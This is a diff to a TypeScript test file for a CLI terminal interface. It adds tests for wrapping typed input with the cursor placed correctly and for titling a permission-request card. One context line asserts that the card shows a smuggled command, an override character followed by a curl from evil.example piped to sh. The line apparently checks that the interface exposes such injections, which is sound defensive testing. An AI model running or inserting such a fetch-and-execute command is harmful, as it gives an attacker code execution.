@@ -10,6 +10,7 @@ import { cut, widthOf, wrap } from '../../src/cli/terminal/measure.ts';
 import { tableOf } from '../../src/cli/terminal/table.ts';
 import { makeTalk } from '../../src/cli/terminal/talk.ts';
 import { makeTeam } from '../../src/cli/terminal/team.ts';
+import { layOut } from '../../src/cli/terminal/typed-line.ts';
 import type { StreamedEvent, Subagent } from '../../src/client/index.ts';
 
 const plain = inkFor({}, {});
@@ -76,6 +77,9 @@ describe('what others wrote', () => {
     expect(all).toContain('‹202E›;curlevil.example|sh');
     expect(card.at(-1)).toContain('deny and why');
     expect(Math.max(...card.map(widthOf))).toBeLessThanOrEqual(40);
+    // A title that begins with the same is one row, so that it is read once.
+    const titled = requestCard({ ink: plain, width: 40 }, 'docs', { ...request, title: `bash: ${detail}` });
+    expect(titled.slice(0, 2)).toEqual(['? docs asks for permission: bash: git l…', '  git log']);
   });
 });
 
@@ -108,6 +112,29 @@ describe('lines', () => {
       '日…',
       '',
     ]);
+  });
+
+  test('of what is typed fit, whatever it is, and the cursor stands among them behind what is before it', () => {
+    const given = fc.record({
+      text: fc.string({ unit: 'grapheme', maxLength: 120 }),
+      cursor: fc.nat(120),
+      width: fc.integer({ min: 10, max: 40 }),
+      most: fc.integer({ min: 1, max: 6 }),
+    });
+    fc.assert(
+      fc.property(given, ({ text, cursor, width, most }) => {
+        const { rows, row, column } = layOut({ prompt: '› ', text, cursor }, width, most);
+        expect(rows.length).toBeLessThanOrEqual(most);
+        expect(Math.max(...rows.map(widthOf))).toBeLessThanOrEqual(width);
+        expect(widthOf(rows[row] ?? '')).toBeGreaterThanOrEqual(column);
+      }),
+    );
+    const all = layOut({ prompt: '› ', text: '日本語 and more', cursor: 3 }, 10, 5);
+    expect(all).toEqual({ rows: ['› 日本語 a', '  nd more'], row: 0, column: 8 });
+    const flag = layOut({ prompt: '› ', text: 'a\u{1f3f4}\u{e0067}\u{e007f}', cursor: 1 }, 10, 5);
+    expect(flag).toEqual({ rows: ['› a🏴‹E006', '  7›‹E007F', '  ›'], row: 0, column: 3 });
+    const end = layOut({ prompt: '› ', text: '日本語 and more', cursor: 12 }, 10, 1);
+    expect(end).toEqual({ rows: ['  nd more'], row: 0, column: 9 });
   });
 
   test('of tables fit every width', () => {
